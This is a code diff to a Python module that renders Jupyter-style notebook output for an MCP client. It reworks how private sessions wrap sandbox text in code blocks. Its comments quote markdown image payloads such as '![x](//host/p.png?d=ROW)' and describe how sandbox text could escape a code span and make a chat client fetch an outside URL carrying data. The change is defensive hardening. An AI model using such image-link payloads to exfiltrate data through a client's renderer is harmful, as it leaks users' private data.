@@ -22,7 +22,7 @@ in the sandbox's HTML, harmless in a page, came back as a live
 ``https://`` for an agent that follows links (guarantee 8; an attack
 review), and an exception's class name is any string a cell chooses.
 
-It is also put in code (:func:`inert`, :func:`inert_inline`): an MCP
+It is also put in code (:func:`inert`): an MCP
 client may render a tool's result as markdown, and defanged text still
 held images without a scheme (``![x](//host/p.png?d=ROW)``, ``<img
 src=//host>``, ``![x](http:host/p)``), which a chat client fetched with
@@ -172,15 +172,6 @@ def inert(text: str) -> str:
     return f"{fence}\n{text}\n{fence}"
 
 
-def inert_inline(text: str) -> str:
-    """``text`` as a code span no backtick run in it can close, on one line:
-    a line of its own could start a heading, a list or a fence, which ends
-    the paragraph and the span with it."""
-    text = text.replace("\r", " ").replace("\n", " ")
-    ticks = _ticks(text, 1)
-    return f"{ticks} {text} {ticks}"
-
-
 def output_text(out: CellOutput, images: ImageGate, private: bool = False) -> tuple[str, str]:
     """(label, text) of one output, defanged when the session is ``private``."""
     label, text = _output_text(out, images)
@@ -292,10 +283,16 @@ def render_cell(
 
 
 def render_notebook(nb: Notebook, header: str = "", private: bool = False) -> str:
+    """The notebook's cells, a few lines each. ``private``: the listing is one
+    code block (:func:`inert`), not a code span per summary: the code's
+    first lines stood outside code, and an unpaired backtick run in them
+    closed against the next summary's span, leaving the sandbox's text
+    outside code (a review: a markdown renderer fetched its image)."""
     if not nb.cells:
         return (header + "\n" if header else "") + "The notebook is empty."
     lines = [header] if header else []
     lines.append(f"Notebook of session {nb.session_id}: {len(nb.cells)} cell(s)")
+    entries: list[str] = []
     for i, cell in enumerate(nb.cells):
         count = cell.execution_count if cell.execution_count is not None else " "
         code_lines = cell.code.splitlines() or [""]
@@ -308,11 +305,11 @@ def render_notebook(nb: Notebook, header: str = "", private: bool = False) -> st
         summary = ""
         if cell.state == CellState.ERROR and cell.error is not None:
             said = strip_ansi(f"{cell.error.ename}: {truncate(cell.error.evalue or '', 200)}")
-            summary = f" -> {inert_inline(defang_text(said))}" if private else f" -> {said}"
+            summary = f" -> {defang_text(said) if private else said}"
         elif cell.outputs:
             numbered = ImageGate(None)
             first = " ".join(output_text(o, numbered, private)[1] for o in cell.outputs).strip().replace("\n", " ")
-            first = truncate(first, 120)
-            summary = (f" -> {inert_inline(first)}" if private else f" -> {first}") if first else ""
-        lines.append(f"[{i}] ({count}) {cell.state.value.upper()}{summary}\n    {shown}{more}")
+            summary = f" -> {truncate(first, 120)}" if first else ""
+        entries.append(f"[{i}] ({count}) {cell.state.value.upper()}{summary}\n    {shown}{more}")
+    lines.append(inert("\n".join(entries)) if private else "\n".join(entries))
     return "\n".join(lines)
